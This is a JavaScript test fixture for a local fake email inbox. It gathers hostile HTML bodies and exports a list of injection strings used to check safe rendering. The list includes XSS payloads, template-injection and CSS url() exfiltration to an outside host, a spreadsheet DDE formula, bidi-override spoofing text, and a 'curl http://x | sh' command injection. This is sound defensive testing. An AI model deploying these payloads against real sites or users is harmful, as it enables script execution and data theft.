// The hostile corpus: HTML of the local inbox's own tests, and texts for fields that are shown as text.

import { readFileSync } from 'node:fs';

const FOLDER = new URL('../../../local/fake_ses/tests/in_a_browser/hostile/', import.meta.url);

/** A text of the corpus in a Rust source: `Body("..")` or `Click(r#".."#)`. */
const LITERAL = /\b(?:Body|Click)\(\s*(?:r(#*)"([\s\S]*?)"\1|"((?:[^"\\]|\\[\s\S])*)")/g;

/** Reads Rust's escapes. @param {string} text */
const unescaped = (text) =>
  text
    .replace(/\\\n\s*/g, '')
    .replace(/\\u\{([0-9a-f]+)\}/gi, (_, digits) => String.fromCodePoint(Number.parseInt(digits, 16)))
    .replace(/\\(["\\nrt0])/g, (_, letter) => JSON.parse(letter === '0' ? '"\\u0000"' : `"\\${letter}"`));

/**
 * The documents that try to run a script or to fetch something.
 * @param {string} run an expression that a running script evaluates
 * @param {string} out a host that no document may reach
 * @returns {string[]}
 */
export function documents(run, out) {
  return ['bodies.rs', 'fetching.rs', 'heads.rs']
    .flatMap((name) => [...readFileSync(new URL(name, FOLDER), 'utf8').matchAll(LITERAL)])
    .map(([, , raw, escaped]) => raw ?? unescaped(escaped ?? ''))
    .map((text) => text.replaceAll('{run}', run).replaceAll('{out}', out));
}

/**
 * Texts that break out of markup, attributes, addresses, styles and templates, or confuse the reader of a text.
 * Sources: the OWASP Cheat Sheet "XSS Filter Evasion"; Unicode Technical Standard 39; CVE-2021-42574.
 * @param {string} run @param {string} out
 * @returns {string[]}
 */
export const texts = (run, out) => [
  `<img src=x onerror=${run}>`,
  `"><script>${run}</script>`,
  `' onfocus='${run}' autofocus='`,
  `javascript:${run}`,
  ` jav\tascr\nipt:${run}`,
  `data:text/html,<script>${run}</script>`,
  `//${out}/x`,
  `http://${out}/`,
  `<a href="http://${out}/" ping="http://${out}/">x</a>`,
  `</title></textarea></style></template><svg onload=${run}>`,
  `--><img src=http://${out}/>`,
  `]]><iframe srcdoc="<script>parent.${run}</script>">`,
  `\${${run}}{{constructor.constructor('${run}')()}}`,
  `;background:url(http://${out}/);x{}*/`,
  `#/keys?x=</a><script>${run}</script>`,
  '%3Cscript%3E%00../../..//\\..\\',
  '__proto__',
  'constructor',
  '\u0000\u0001\u001b[2J\u007f\ufeff\ufffe',
  'gpj.\u202eexe.\u2066x\u2069\u200f',
  '\ud83d\ude00e\u0301\u0301\u0301\u0301\ud83c\udff3\ufe0f\u200d\ud83c\udf08',
  '='.repeat(3).concat("cmd|' /C calc'!A0"),
  "'; curl http://x | sh; echo '$(id)`id`",
  'W'.repeat(2000),
];
